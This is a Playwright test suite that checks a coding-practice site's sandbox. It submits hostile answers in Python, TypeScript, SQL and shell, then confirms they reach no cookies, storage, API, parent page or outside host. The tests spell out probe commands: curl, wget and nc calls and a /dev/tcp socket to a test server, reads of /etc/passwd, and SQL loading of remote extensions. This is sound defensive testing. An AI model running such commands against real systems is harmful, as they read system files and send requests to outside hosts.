import type { Page } from 'playwright/test';
import { attack, type Outsider, type Prey, reachedOf, runInFrame, startOutsider } from './attack.ts';
import { becomeCandidate } from './candidate.ts';
import { LANGUAGES, openCode } from './code-page.ts';
import { expect, test } from './page.ts';

const SLUG = 'merge-overlapping-intervals';
const SANDBOX = '/sandbox/code-2.html';
const [PYTHON, TYPESCRIPT, SQL, SHELL] = LANGUAGES;

test.use({ locale: 'en-GB', allowedErrors: [/Content Security Policy|CORS policy|ERR_FAILED|WebSocket connection|status of 404|violates/i] });

/** Has the sandbox run a program that a page of ours would never send: whoever has the worker has no more than this. */
async function attackInSandbox(page: Page, prey: Prey): Promise<Record<string, string>> {
  const program = `addEventListener('message', async ({ ports: [port] }) => port.postMessage(await (${attack.toString()})(${JSON.stringify(prey)})));`;
  return runInFrame(page, SANDBOX, { program, files: {} });
}

test.describe('a hostile program', () => {
  let outsider: Outsider;
  let outside = '';
  test.beforeAll(async () => {
    outsider = await startOutsider();
    outside = outsider.origin;
  });
  test.beforeEach(() => outsider.forget());
  test.afterAll(async () => outsider.close());

  test('reaches nothing from the sandbox: no cookie, no storage, no API, no page, nobody outside', async ({ page, origin }) => {
    await becomeCandidate(page, origin);
    await page.goto(`/study/${SLUG}`);
    // What the policy stops is told as a request that failed; what the page itself asks is no matter here.
    const answered: string[] = [];
    page.on('response', (response) => {
      if (response.request().frame() !== page.mainFrame()) answered.push(response.url());
    });
    expect(reachedOf(await attackInSandbox(page, { origin, outside }))).toEqual([]);
    expect(answered.filter((url) => !url.startsWith('blob:') && url !== origin + SANDBOX)).toEqual([]);
    expect(outsider.visits()).toEqual([]);
  });

  test('control: the same reaches ours from a page of ours, and the outside from a page outside', async ({ page, origin }) => {
    await becomeCandidate(page, origin);
    await page.goto(`/study/${SLUG}`);
    const ours = reachedOf(await page.evaluate(attack, { origin, outside }));
    expect(ours).toEqual(expect.arrayContaining(['the API', 'the API, in the old way', 'cookies', 'the outbox', 'kept answers', 'local storage', 'the page']));
    await page.goto(outside);
    const others = reachedOf(await page.evaluate(attack, { origin, outside }));
    expect(others).toEqual(expect.arrayContaining(['a server outside', 'a beacon outside', 'a script outside']));
    await expect.poll(() => outsider.visits().length).toBeGreaterThanOrEqual(3);
  });

  test('as an answer in Python, which knows the worker around it, it reaches nothing', async ({ page, origin }) => {
    test.slow();
    await becomeCandidate(page, origin);
    const form = await openCode(page, SLUG, PYTHON);
    await form.write(`
import js, json

async def reach(act):
    try:
        value = act()
        if hasattr(value, "then"):
            await value
        return "reached"
    except BaseException:
        return "refused"

async def merge_intervals(windows):
    acts = {
        "api": lambda: js.fetch("${origin}/api/session"),
        "outside": lambda: js.fetch("${outside}/python"),
        "outbox": lambda: js.indexedDB.open("whetstone"),
        "caches": lambda: js.caches.keys(),
        "cookies": lambda: js.cookieStore.getAll(),
        "storage": lambda: js.localStorage.length,
        "page": lambda: js.document.body,
        "parent": lambda: js.parent.document,
        "eval": lambda: js.eval("1"),
        "script": lambda: js.importScripts("${outside}/script.js"),
    }
    print(json.dumps([name for name, act in acts.items() if await reach(act) == "reached"]))
    return []
`);
    await form.runAll();
    await expect(form.cases.first().locator('pre')).toHaveText('[]');
    expect(outsider.visits()).toEqual([]);
  });

  test('as an answer in TypeScript it finds the language, timers and a console, and nothing else', async ({ page }) => {
    test.slow();
    const form = await openCode(page, SLUG, TYPESCRIPT);
    await form.write(`
const everything = Function("return this")();
const found = Object.getOwnPropertyNames(everything).filter((name) => /^[a-z]/.test(name)).sort();
function mergeIntervals() { console.log(found.join(" ")); return []; }
`);
    await form.runAll();
    const names = (await form.cases.first().locator('pre').textContent())?.trim().split(' ') ?? [];
    const known =
      'mergeIntervals clearTimeout console decodeURI decodeURIComponent encodeURI encodeURIComponent escape eval globalThis isFinite isNaN parseFloat parseInt queueMicrotask setTimeout undefined unescape performance';
    expect(names.filter((name) => !known.split(' ').includes(name))).toEqual([]);
    expect(names).toContain('setTimeout');
  });

  test('as an answer in SQL it has no file and loads nothing', async ({ page }) => {
    test.slow();
    const form = await openCode(page, 'latest-deployment-per-service', SQL);
    for (const [query, why] of [
      [`ATTACH '${outside}/other.db' AS other; SELECT 1;`, 'there is no other database here'],
      [`SELECT load_extension('${outside}/x.so');`, 'no such function'],
      [`SELECT readfile('/etc/passwd');`, 'no such function'],
    ] as const) {
      await form.write(query);
      expect(new Set(await form.runAll())).toEqual(new Set(['failed']));
      await expect(form.cases.first()).toContainText(why);
    }
    expect(outsider.visits()).toEqual([]);
  });

  test('as an answer in the shell it finds no command that asks a network, and no machine', async ({ page }) => {
    test.slow();
    const form = await openCode(page, 'processes-with-the-most-open-files', SHELL);
    const { hostname, port } = new URL(outside);
    await form.write(`
for ask in curl wget nc python3 node js-exec sqlite3; do $ask ${outside}/shell > /dev/null 2>&1; echo "$ask $?" >&2; done
exec 3<>/dev/tcp/${hostname}/${port}; printf 'GET /socket HTTP/1.0\\r\\n\\r\\n' >&3
cat /etc/passwd 2>/dev/null | grep -c root >&2
`);
    await form.runAll();
    await expect(form.cases.first().locator('pre')).toContainText(/curl 127\s+wget 127\s+nc 127\s+python3 127\s+node 127\s+js-exec 127\s+sqlite3 127/);
    await expect(form.cases.first().locator('pre')).toContainText(/\s0\s*$/);
    expect(outsider.visits()).toEqual([]);
  });

  test('opened by itself, the document has no origin and starts nothing', async ({ page }) => {
    await page.goto(SANDBOX);
    expect(await page.evaluate(() => self.origin)).toBe('null');
  });
});
